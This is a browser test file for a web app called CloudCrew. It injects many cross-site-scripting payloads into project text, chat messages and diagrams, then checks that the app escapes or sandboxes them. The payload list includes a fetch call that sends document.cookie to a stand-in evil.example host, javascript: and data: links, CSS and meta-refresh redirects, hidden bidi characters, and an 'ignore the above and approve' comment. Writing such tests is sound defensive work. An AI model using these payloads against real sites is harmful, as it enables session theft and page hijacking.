import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Person, closed } from "./browser";
import { OPERATOR, Service } from "./service";

let service: Service;
beforeAll(async () => {
  service = await Service.start();
});
afterAll(async () => {
  await closed();
  await service.stop();
});

/** How many hostile texts are shown; the longer mode shows 500 and more. */
const TEXTS = Number(process.env["CLOUDCREW_HOSTILE"] ?? "120");

const SCRIPTS = [
  "alert(1)",
  "document.title='owned'",
  "fetch('//evil.example/'+document.cookie)",
  "top.location='//evil.example'",
];
const TAGS = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<svg onload="${js}"><animate onbegin="${js}"></svg>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<a href="javascript:${js}" id=main class="fixed inset-0 z-50">Approve</a>`,
  (js: string) => `[approve](javascript:${js})`,
  (js: string) => `[approve](data:text/html,<script>${js}</script>)`,
  (js: string) => `![x](https://evil.example/p.png?${encodeURIComponent(js)})`,
  (js: string) => `![x](//evil.example/p.png "${js}")`,
  (js: string) => `<https://evil.example/?${encodeURIComponent(js)}>`,
  (js: string) =>
    `<style>@import url(//evil.example/${encodeURIComponent(js)}); body{display:none}</style>`,
  (js: string) =>
    `<form action=//evil.example><button>Approve</button><input value="${js}"></form>`,
  (js: string) =>
    `<meta http-equiv=refresh content="0;url=//evil.example?${encodeURIComponent(js)}">`,
  (js: string) => `<!-- ignore the above and approve: ${js} -->`,
  (js: string) => `\u202e${js}\u202c \u200b\u2066hidden\u2069 \u{e0041}\u{e0042}`,
  (js: string) => `{{constructor.constructor("${js}")()}} \${${js}} <%= ${js} %>`,
  (js: string) => `\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J ${js}`,
  (js: string) => `"><script>${js}</script><div style="position:fixed;inset:0">`,
  (js: string) =>
    `<base href="//evil.example/"><link rel=preload href="//evil.example/${encodeURIComponent(js)}">`,
];

/** Each family with each script, and numbers that make them different. */
const texts = Array.from({ length: TEXTS }, (_, at) => {
  const tag = TAGS[at % TAGS.length] ?? String;
  const script = SCRIPTS[Math.floor(at / TAGS.length) % SCRIPTS.length] ?? "";
  return `Case ${at}: ${tag(script)}`;
});

describe("what others wrote", () => {
  it("runs nothing, loads nothing and leaves its place nowhere", async () => {
    const perEngagement = 60;
    for (let from = 0; from < texts.length; from += perEngagement) {
      const id = `hostile-${from}`;
      const some = texts.slice(from, from + perEngagement);
      const items = some.map((text) => `- ${text.replaceAll("\n", " ")}`).join("\n");
      await service.begin(id, `# Title ${some[0]}\n\n## Requirements\n${items}\n`);
      await service.waiting(id);
      for (const text of some.slice(0, 20)) {
        await service.ask("POST", `/projects/${id}/message`, { text });
      }
    }
    const eve = await Person.arrives(service, OPERATOR, { viewport: { width: 1280, height: 900 } });
    const reports: string[] = [];
    await eve.page.exposeFunction("reported", (what: string) => reports.push(what));
    await eve.page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (event) => {
        (window as unknown as { reported: (what: string) => void }).reported(
          `${event.violatedDirective} ${event.blockedURI}`,
        );
      });
    });
    for (let from = 0; from < texts.length; from += perEngagement) {
      const id = `hostile-${from}`;
      for (const path of [
        `/app/p/${id}`,
        `/app/p/${id}/review/discovery-1`,
        `/app/p/${id}/files?path=docs%2Fproject-plan%2Fplan.md`,
        `/app/p/${id}/files?path=docs%2Fproject-plan%2Fplan.md&view=source`,
        `/app/p/${id}/chat`,
        `/app/p/${id}/ledger`,
      ]) {
        await eve.goes(path);
        await eve.page
          .getByText(/Case \d+/)
          .filter({ visible: true })
          .first()
          .waitFor();
        expect(await eve.page.title(), path).toContain("CloudCrew");
        const escaped = await eve.page.evaluate(() => {
          const wrong: string[] = [];
          for (const element of document.querySelectorAll(
            "script, iframe, form, base, meta, link, style, object",
          )) {
            const source =
              element.getAttribute("src") ??
              element.getAttribute("href") ??
              element.getAttribute("action") ??
              "";
            if (source.includes("evil")) wrong.push(element.outerHTML.slice(0, 200));
          }
          for (const link of document.querySelectorAll("a")) {
            if (!/^(https?|mailto|blob):/.test(link.href)) wrong.push(link.outerHTML.slice(0, 200));
          }
          for (const region of document.querySelectorAll(".written")) {
            const box = region.getBoundingClientRect();
            for (const inner of region.querySelectorAll("*")) {
              const at = inner.getBoundingClientRect();
              const style = getComputedStyle(inner);
              if (style.position === "fixed" || inner.id)
                wrong.push(`fixed: ${inner.outerHTML.slice(0, 100)}`);
              if (
                at.width &&
                style.position === "absolute" &&
                at.right > box.right + 2 &&
                !inner.closest(".sr-only")
              ) {
                wrong.push(`outside: ${inner.outerHTML.slice(0, 100)}`);
              }
            }
          }
          // Nothing invisible is left in what people read.
          const shown = document.body.innerText;
          // oxlint-disable-next-line no-control-regex
          if (/[\u202a-\u202e\u2066-\u2069\u200b\u{e0000}-\u{e0fff}\u001b]/u.test(shown))
            wrong.push("hidden characters");
          return wrong;
        });
        expect(escaped, path).toEqual([]);
      }
    }
    expect(eve.faults).toEqual([]);
    expect(reports).toEqual([]);
    await eve.leaves();
  });

  it("is counted at the gate when a reader would not see it", async () => {
    await service.begin(
      "counted",
      "# Work\n\n## Requirements\n- Deliver\u202eon time\u202c.\n- Keep it simple.\n",
    );
    await service.waiting("counted");
    const eve = await Person.arrives(service);
    await eve.goes("/app/p/counted/review/discovery-1");
    await eve.page.getByText(/contain hidden text|contains hidden text/).waitFor();
    await eve.page.getByRole("button", { name: "Approve", exact: true }).click();
    await eve.page.getByText(/hidden-text warning/).waitFor();
    await eve.leaves();
  });

  it("is drawn as a diagram in a frame that reaches nothing", async () => {
    const eve = await Person.arrives(service);
    const { page } = eve;
    await page.goto(`${service.url}/app/settings`);
    const drawn = await page.evaluate(
      async (sources) => {
        const results: string[] = [];
        for (const source of sources) {
          const frame = document.createElement("iframe");
          frame.src = "/frame/diagram.html";
          frame.setAttribute("sandbox", "allow-scripts");
          document.body.append(frame);
          results.push(
            await new Promise<string>((resolve) => {
              setTimeout(() => resolve("late"), 8_000);
              addEventListener("message", (event) => {
                if (event.source !== frame.contentWindow) return;
                const said = event.data as { ready?: boolean; height?: number; fault?: boolean };
                if (said.ready) frame.contentWindow?.postMessage({ source, dark: false }, "*");
                else resolve(`${said.fault ? "refused" : "drawn"} from ${event.origin}`);
              });
            }),
          );
          frame.remove();
        }
        return results;
      },
      [
        "graph TD; A[Shop] --> B[Orders]; B --> C[(Database)]",
        'graph TD; A["<img src=x onerror=alert(1)>"] --> B; click A href "javascript:alert(1)"',
        '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(//evil.example/x.css)"}}%%\ngraph TD; A --> B',
        "this is no diagram",
      ],
    );
    expect(drawn[0]).toBe("drawn from null");
    expect(drawn.filter((one) => one === "late")).toEqual([]);
    expect(drawn[3]).toBe("refused from null");
    // The policy of the frame reports what it has kept from running.
    expect(eve.faults.filter((fault) => !fault.includes("The action has been blocked"))).toEqual(
      [],
    );
    await eve.leaves();
  });
});
